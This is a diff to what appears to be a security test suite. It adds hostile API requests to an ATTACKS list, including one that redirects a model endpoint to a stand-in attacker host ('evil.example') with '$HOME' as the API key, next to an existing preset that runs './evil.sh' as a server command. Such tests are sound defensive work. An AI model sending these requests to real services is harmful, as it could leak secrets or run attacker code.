@@ -42,6 +42,12 @@ const ATTACKS: readonly Attack[] = [
   ['POST', '/api/changes', { label: 'x', items: [{ agent: 'scout', file: 'pi-args', content: 'x' }] }],
   ['POST', '/api/changes/x/finish'],
   ['POST', '/api/changes/x/restore'],
+  ['POST', '/api/agents/scout/models/find', { baseUrl: 'https://evil.example/v1', apiKey: '$HOME' }],
+  [
+    'POST',
+    '/api/agents/scout/models/test',
+    { baseUrl: 'https://models.example/v1', provider: 'own', model: 'm' },
+  ],
   ['PUT', '/api/presets/Evil', { skills: [], mcpServers: { new: { command: './evil.sh' } } }],
   ['POST', '/api/presets/Kept/rename', { name: 'Other' }],
   ['DELETE', '/api/presets/Kept'],
